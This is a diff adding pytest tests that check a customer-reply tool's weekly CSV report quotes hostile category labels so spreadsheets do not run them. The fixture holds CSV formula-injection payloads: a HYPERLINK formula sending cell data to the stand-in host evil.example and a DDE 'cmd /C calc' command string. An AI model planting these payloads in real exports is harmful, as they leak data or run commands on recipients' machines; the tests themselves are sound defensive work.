@@ -93,6 +93,67 @@ def test_weekly_numbers_csv_neutralises_a_customer_category():
     assert csvsafe.unescape(next(csv.reader(io.StringIO(crlf.getvalue(), newline="")))[0]) == "\r=1+1"
 
 
+# categories as a customer sends them: the intake's label rules let "-2+3+cmd" and "+86 热线"
+# through; a store written before those rules (or by hand) may hold anything
+REPORT_CATEGORIES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")", "-2+3+cmd|' /C calc'!A0",
+                     "-2+3+cmd", "+86 热线", "物流查询"]
+
+
+@pytest.fixture
+def hostile_report_store(workspace):
+    from test_report import W47, W48, _review
+
+    _, store = workspace
+    _review(store, W47[0], "物流查询", "approve", conv="prev")  # the week before: all approved unchanged
+    for i, category in enumerate(REPORT_CATEGORIES):
+        _review(store, W48[1], category, "approve", draft=f"回复{i}。", conv=f"c{i}")
+        _review(store, W48[2], category, "edit", draft=f"请提供快递条码{i}。", final=f"请提供电子面单{i}。", conv=f"e{i}")
+    return store
+
+
+def _report_rows(out: Path) -> list[list[str]]:
+    with (out / "numbers.csv").open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+@pytest.mark.slow
+def test_weekly_report_neutralises_customer_categories_in_numbers_csv(hostile_report_store, tmp_path):
+    from replyloop import csvsafe
+    from replyloop.fields import clean
+    from test_report import WEEK
+
+    assert clean("category", "-2+3+cmd") == "-2+3+cmd" and clean("category", "+86 热线") == "+86 热线"
+    out = tmp_path / "report"
+    result = cli_subprocess("report", "weekly", "--week", WEEK, "--out", out)
+    assert result.returncode == 0, result.stderr
+    header, *rows = _report_rows(out)
+    assert header == ["section", "week", "category", "metric", "value"]
+    categories = {r[2] for r in rows if r[0] == "reviews" and r[1] == WEEK and r[2]}
+    assert categories == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里查看物流\")", "'-2+3+cmd\\|' /C calc'!A0",
+                          "'-2+3+cmd", "'+86 热线", "物流查询"}
+    assert {r[2] for r in rows if r[0] == "edits" and r[2]} == categories
+    # no cell a spreadsheet would run: a quote or a harmless character first, or a plain number
+    for row in rows:
+        for cell in row[:4]:
+            assert not cell or cell[0] not in "=+-@|%\t\r", row
+    # a negative number stays a number: 5 of 10 approved unchanged after 1 of 1 the week before
+    assert ["automation", WEEK, "", "change_vs_previous_week", "-0.5"] in rows
+    assert {csvsafe.unescape(c) for c in categories} == set(REPORT_CATEGORIES)
+
+
+def test_weekly_report_raw_csv_writes_categories_as_stored(hostile_report_store, tmp_path):
+    from test_report import WEEK
+
+    out = tmp_path / "raw"
+    result = cli("report", "weekly", "--week", WEEK, "--out", out, "--raw-csv")
+    assert result.exit_code == 0, result.output
+    rows = _report_rows(out)[1:]
+    assert {r[2] for r in rows if r[0] == "reviews" and r[1] == WEEK and r[2]} == set(REPORT_CATEGORIES)
+    # the default stays safe: the same report without the flag quotes them again
+    assert cli("report", "weekly", "--week", WEEK, "--out", out).exit_code == 0
+    assert "'-2+3+cmd" in {r[2] for r in _report_rows(out)}
+
+
 # -- import validation ---------------------------------------------------------------------
 
 
